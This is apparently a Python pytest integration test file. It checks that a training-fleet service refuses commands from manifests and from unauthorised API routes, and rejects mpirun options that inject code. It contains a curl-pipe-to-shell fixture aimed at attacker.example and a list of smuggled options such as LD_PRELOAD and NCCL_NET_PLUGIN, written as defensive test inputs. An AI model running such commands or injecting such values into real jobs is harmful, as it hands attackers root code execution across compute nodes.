"""Who decides what code the training fleet runs (as root, on every node of a run).

Whoever may write to the data bucket can upload a manifest, and whoever may call POST /runs can
send a body: neither may choose the command, nor smuggle code in through mpirun's options
(``-x LD_PRELOAD=…``, ``--mca plm_rsh_agent …``). Only POST /command-runs of a stack deployed
with AllowRunCommands=true takes a command, a route whose execute-api:Invoke is a grant of its
own; a run started another way with a command fails its Plan with RequestInvalid.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.integration.conftest import emulated, finish, run_scenario  # noqa: F401
from traingrid.errors import CommandNotPermitted, RequestInvalid
from traingrid.settings import Settings
from traingrid.training import plan_step
from traingrid.training.mpi_params import (
    MPI_PARAMS_PATTERN,
    MPI_VARIABLE_REFUSED_WORDS,
    mpi_params_problems,
)
from traingrid.training.run_request import DEFAULT_EXTRA_MPI_PARAMS, TrainingRunRequest
from traingrid.training.trigger import request_from_manifest
from traingrid.validation import parse
from traingrid_local.api.server import API_FUNCTION, api_routes, lambda_invoker, proxy_event
from traingrid_local.demo.runner import upload_sample_dataset
from traingrid_local.stack.environment import DEMO_BUCKET
from traingrid_local.templates import load_template

ROOT = Path(__file__).resolve().parents[2]
DATASET = f"s3://{DEMO_BUCKET}/imagenet2012/resized/"
DOWNLOAD_AND_RUN = ["bash", "-c", "curl -s https://attacker.example/x | sh"]
SMUGGLED = {
    "-x LD_PRELOAD=/fsx/x.so": "LD_PRELOAD may not be set",
    "-x PYTHONPATH=fsx": "PYTHONPATH may not be set",
    "-x PATH=fsx": "PATH may not be set",
    "--mca plm_rsh_agent fsx": "'--mca plm_rsh_agent fsx': only -x NAME=VALUE",
    "-x OMPI_MCA_plm_rsh_agent=sh": "OMPI_MCA_plm_rsh_agent may not be set",
    "-x NCCL_NET_PLUGIN=evil": "NCCL_NET_PLUGIN may not be set",
    "-x NCCL_CONF_FILE=nccl.conf": "NCCL_CONF_FILE may not be set",
    "-x FI_PROVIDER_PATH=fsx": "FI_PROVIDER_PATH may not be set",
    "-x NCCL_DEBUG=INFO -x NCCL_IB_HCA=/fsx/x": "the value of NCCL_IB_HCA may only hold",
    "-x NCCL_DEBUG=INFO -np 1": "'-np 1': only -x NAME=VALUE",
    "-x": "'-x': only -x NAME=VALUE",
}


def problems_of(body: dict) -> dict[str, str]:
    try:
        parse(TrainingRunRequest, body)
    except RequestInvalid as invalid:
        return {p["pointer"]: p["message"] for p in invalid.problems}
    return {}


# --- extra_mpi_params: variables of the collectives, nothing else -----------------------------


@pytest.mark.parametrize("params", list(SMUGGLED))
def test_mpirun_options_that_run_or_load_code_are_refused(params):
    problems = problems_of({"dataset": DATASET, "extra_mpi_params": params})
    assert list(problems) == ["/extra_mpi_params"]
    assert SMUGGLED[params] in problems["/extra_mpi_params"]
    # The document says so too, wherever a pattern can (the refused words are the model's).
    if not MPI_VARIABLE_REFUSED_WORDS & set(params.replace("=", "_").split("_")):
        assert not MPI_PARAMS_PATTERN.fullmatch(params)


def test_every_problem_of_the_options_is_listed_with_the_requests_others():
    params = "-x LD_PRELOAD=x.so --mca a b -x NCCL_NET_PLUGIN=y"
    problems = problems_of({"dataset": DATASET, "nodes": 0, "colour": "red",
                            "extra_mpi_params": params})
    assert set(problems) == {"/nodes", "/colour", "/extra_mpi_params"}
    message = problems["/extra_mpi_params"]
    for part in ("'--mca a b'", "LD_PRELOAD", "NCCL_NET_PLUGIN"):
        assert part in message


@pytest.mark.parametrize("params", [
    DEFAULT_EXTRA_MPI_PARAMS, "", "-x NCCL_DEBUG", "-x NCCL_SOCKET_IFNAME=^docker0,lo",
    "-x OMP_NUM_THREADS=4 -x FI_EFA_USE_DEVICE_RDMA=1 -x TORCH_NCCL_ASYNC_ERROR_HANDLING=1",
    "-x GLOO_SOCKET_IFNAME=eth0  -x NCCL_IB_HCA=mlx5_0:1",
])
def test_the_default_and_the_collectives_tuning_pass(params):
    assert mpi_params_problems(params) == []
    assert MPI_PARAMS_PATTERN.fullmatch(params)
    assert problems_of({"dataset": DATASET, "extra_mpi_params": params}) == {}


def test_the_documents_pattern_is_the_models():
    schema = json.loads((ROOT / "schema" / "training-run-request.schema.json").read_text())
    assert schema["properties"]["extra_mpi_params"]["pattern"] == MPI_PARAMS_PATTERN.pattern


# --- command: never from a manifest, from the API only where the stack allows -----------------


def test_a_manifest_never_chooses_the_command_and_every_problem_is_listed():
    with pytest.raises(RequestInvalid) as refused:
        request_from_manifest({"command": DOWNLOAD_AND_RUN, "nodes": 0,
                               "extra_mpi_params": "-x LD_PRELOAD=/fsx/x.so"},
                              DEMO_BUCKET, "imagenet2012/resized/manifest.json")
    problems = {p["pointer"]: p["message"] for p in refused.value.problems}
    assert set(problems) == {"/command", "/nodes", "/extra_mpi_params"}
    assert problems["/command"].startswith("A manifest cannot choose the command")
    with pytest.raises(CommandNotPermitted):  # alone, it is still refused
        request_from_manifest({"command": ["python3", "-m", "traingrid_trainer"]},
                              DEMO_BUCKET, "imagenet2012/resized/manifest.json")


def _plan(request: dict, allow: bool) -> None:
    settings = Settings(data_bucket=DEMO_BUCKET, allow_run_commands=allow)
    plan_step.plan({"request": request, "run": "r", "execution_arn": "arn"}, settings)


def test_a_run_started_another_way_with_a_command_fails_its_plan(monkeypatch):
    with pytest.raises(RequestInvalid) as refused:
        _plan({"dataset": DATASET, "command": DOWNLOAD_AND_RUN}, allow=False)
    # RequestInvalid itself: the state machine's Fail names it.
    assert type(refused.value) is RequestInvalid
    assert [p["pointer"] for p in refused.value.problems] == ["/command"]
    assert "AllowRunCommands" in refused.value.problems[0]["message"]
    with pytest.raises(RequestInvalid) as refused:
        _plan({"dataset": DATASET, "extra_mpi_params": "-x LD_PRELOAD=/fsx/x.so"}, allow=True)
    assert [p["pointer"] for p in refused.value.problems] == ["/extra_mpi_params"]
    # Where the stack takes commands, the plan goes on (to size the dataset).
    sized = []
    monkeypatch.setattr(plan_step, "size_part",
                        lambda bucket, prefix, *_: (None, sized.append(prefix)
                                                       or plan_step.DatasetSize(1, 1)))
    _plan({"dataset": DATASET, "command": ["python3", "train.py"]}, allow=True)
    assert sized == ["imagenet2012/resized/"]


def test_commands_are_off_by_default_and_their_route_is_a_grant_of_its_own():
    template = load_template()
    assert template["Parameters"]["AllowRunCommands"]["Default"] == "false"
    assert Settings.from_env({"DATA_BUCKET": "b"}).allow_run_commands is False
    events = template["Resources"]["ApiFunction"]["Properties"]["Events"]
    assert events["SubmitCommandRun"]["Properties"]["Path"] == "/command-runs"
    policy = template["Resources"]["RunCommandsPolicy"]
    assert policy["Condition"] == "TakesRunCommands"
    (statement,) = policy["Properties"]["PolicyDocument"]["Statement"]
    assert statement["Action"] == "execute-api:Invoke"
    assert statement["Resource"]["Fn::Sub"].endswith("/POST/command-runs")


def test_a_manifest_with_a_command_starts_nothing(run_scenario):  # noqa: F811
    outcome = run_scenario("happy", manifest={"command": DOWNLOAD_AND_RUN})
    assert outcome.report["executions"] == []
    (rejected,) = outcome.report["rejected_manifests"]
    assert [p["pointer"] for p in rejected["problems"]] == ["/command"]


class Api:
    """The deployed API function, sent what API Gateway would send it."""

    def __init__(self, emulator, deployment):
        self.invoke = lambda_invoker(emulator, deployment.stack.resources[API_FUNCTION])
        self.routes = api_routes()

    def post(self, path: str, body: dict) -> tuple[int, dict]:
        event = proxy_event(self.routes, "POST", path, [("Content-Type", "application/json")],
                            json.dumps(body).encode(), "127.0.0.1", "localhost")
        answer = self.invoke(event)
        return answer["statusCode"], json.loads(answer["body"])


def test_without_allow_run_commands_no_route_takes_a_command(emulated):  # noqa: F811
    emulator, deployment = emulated("happy")
    api = Api(emulator, deployment)
    status, body = api.post("/runs", {"dataset": DATASET, "command": DOWNLOAD_AND_RUN})
    assert status == 403, body
    assert [p["pointer"] for p in body["problems"]] == ["/command"]
    assert "POST /command-runs" in body["problems"][0]["message"]
    assert "AllowRunCommands=true" in body["problems"][0]["message"]
    status, body = api.post("/command-runs", {"dataset": DATASET, "command": DOWNLOAD_AND_RUN})
    assert status == 403 and "AllowRunCommands=true" in body["message"], body
    status, body = api.post("/runs", {"dataset": DATASET, "nodes": 0,
                                      "extra_mpi_params": "-x LD_PRELOAD=/fsx/x.so"})
    assert status == 400 and {p["pointer"] for p in body["problems"]} == {
        "/nodes", "/extra_mpi_params"}, body
    sfn = emulator.client("stepfunctions")
    arn = deployment.stack.outputs["TrainingRunStateMachineArn"]
    assert sfn.list_executions(stateMachineArn=arn)["executions"] == []


def test_with_allow_run_commands_only_the_command_route_runs_a_command(emulated):  # noqa: F811
    emulator, deployment = emulated("happy", parameters={"AllowRunCommands": "true"})
    upload_sample_dataset(emulator)
    api = Api(emulator, deployment)
    command = ["python3", "/fsx/code/train.py", "--epochs", "2"]
    status, body = api.post("/runs", {"dataset": DATASET, "command": command})
    assert status == 403 and "POST /command-runs" in body["problems"][0]["message"], body
    status, body = api.post("/command-runs", {"dataset": DATASET, "nodes": 2,
                                              "command": command})
    assert status == 202, body
    outcome = finish(emulator, deployment, "TrainingRunStateMachineArn")
    assert outcome.execution["status"] == "SUCCEEDED", outcome.execution.get("cause")
    from moto.batch.models import batch_backends

    job_id = outcome.execution["output"]["job_id"]
    simulated = batch_backends["123456789012"]["us-east-1"].get_job_by_id(job_id).simulated
    assert simulated.command == command
